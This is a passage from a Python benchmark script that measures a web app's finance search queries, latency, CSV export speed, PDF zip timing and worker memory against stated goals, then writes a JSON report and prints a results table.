        flat = ("10%" in task_rss and "100%" in task_rss and task_rss["100%"] - task_rss["10%"] <= FLAT_MB)
        search_p50, baseline_p50 = http_results["search"]["p50_ms"], http_results["baseline"]["p50_ms"]
        csv_rate, copy_rate = rows / csv_seconds, rows / copy_seconds
        per_pdf = zipped["seconds_per_pdf"]
        figure = pdf_bench.figure
        figures = [
            figure("finance search: SQL queries (most of any filter or page)", max(counts.values()), "queries",
                   f"≤ {SEARCH_QUERIES} at 100,000 invoices as at 120 (tests/finance)",
                   max(counts.values()) <= SEARCH_QUERIES, baseline_name="baseline page",
                   baseline=queries["baseline"]["count"], ratio=None),
            figure("finance search p50 (number, name, dates)", search_p50, "ms", f"≤ {LATENCY_GOAL}× baseline",
                   search_p50 / baseline_p50 <= LATENCY_GOAL, baseline_name="authenticated page p50",
                   baseline=baseline_p50, ratio=round(search_p50 / baseline_p50, 2)),
            figure(f"CSV of {rows:,} invoices", round(csv_rate), "rows/s", f"≥ {COPY_GOAL}× COPY",
                   csv_rate / copy_rate >= COPY_GOAL, baseline_name="COPY … TO STDOUT", baseline=round(copy_rate),
                   ratio=round(csv_rate / copy_rate, 2)),
            figure("gunicorn worker peak RSS (search, CSVs, zip)", gunicorn_peak, "MB", f"< {RSS_GOAL_MB} MB",
                   gunicorn_peak < RSS_GOAL_MB),
            figure(f"zip of {args.zip} PDFs, per PDF", round(per_pdf * 1000, 1), "ms", f"≤ {PDF_GOAL}× bare render",
                   per_pdf / bare <= PDF_GOAL, baseline_name="bare WeasyPrint render", baseline=round(bare * 1000, 1),
                   ratio=round(per_pdf / bare, 2)),
            figure(f"zip of {args.zip} PDFs, per PDF, vs the cheapest bare render", round(per_pdf * 1000, 1), "ms",
                   f"≤ {PDF_GOAL}× bare floor", per_pdf / floor <= PDF_GOAL,
                   baseline_name="bare render, no fetcher, fonts reused", baseline=round(floor * 1000, 1),
                   ratio=round(per_pdf / floor, 2)),
            figure("zip task worker peak RSS", zipped["task_worker_peak_mb"], "MB",
                   f"< {RSS_GOAL_MB} MB, flat (100% within {FLAT_MB} MB of 10%)",
                   (zipped["task_worker_peak_mb"] or 1e9) < RSS_GOAL_MB and flat),
        ]
        report = {
            "when": datetime.datetime.now(datetime.UTC).isoformat(timespec="seconds"),
            "figures": figures,
            "loadavg": {"before": before, "after": pdf_bench.loadavg()},
            "config": {k: v for k, v in vars(args).items() if k != "pg"} | {"cpus": os.cpu_count()},
            "seed": seeded, "search_paths": paths, "http": http_results,
            "queries": {label: {"count": q["count"], "ms": q["ms"]} for label, q in queries.items()},
            "queries_sql": {label: q["sql"] for label, q in queries.items()},
            "csv": {"runs": csv_runs, "copy_runs": copy_runs, "checked": checked},
            "zip": zipped, "bare_pdf_s": {"before": bare_before, "after": bare_after},
            "memory_mb": {"after_search": memory_after_search, "after_csv": memory_after_csv, "end": memory_end},
        }
        (RESULTS / "finance.json").write_text(json.dumps(report, indent=2, default=str) + "\n")
        print_table(report)
        return 0
    finally:
        base.teardown(server, args, created=created)
        import shutil

        shutil.rmtree(cache, ignore_errors=True)


def print_table(report: dict) -> None:
    print()
    for f in report["figures"]:
        against = f" = {f['ratio']}× {f['baseline_name']} ({f['baseline']})" if f["ratio"] is not None else \
            (f" ({f['baseline_name']}: {f['baseline']})" if f["baseline_name"] else "")
        print(f"{f['name']}: {f['value']} {f['unit']}{against}; goal {f['goal']}: {'met' if f['met'] else 'NOT met'}")
    http_results = report["http"]
    print(f"search p50/p99 {http_results['search']['p50_ms']}/{http_results['search']['p99_ms']} ms, baseline "
          f"{http_results['baseline']['p50_ms']}/{http_results['baseline']['p99_ms']} ms; queries "
          + ", ".join(f"{label}: {q['count']}" for label, q in report["queries"].items()))
    print(f"load average before {report['loadavg']['before']}, after {report['loadavg']['after']}")
    print(f"written: {RESULTS / 'finance.json'}")


if __name__ == "__main__":
    sys.exit(main())
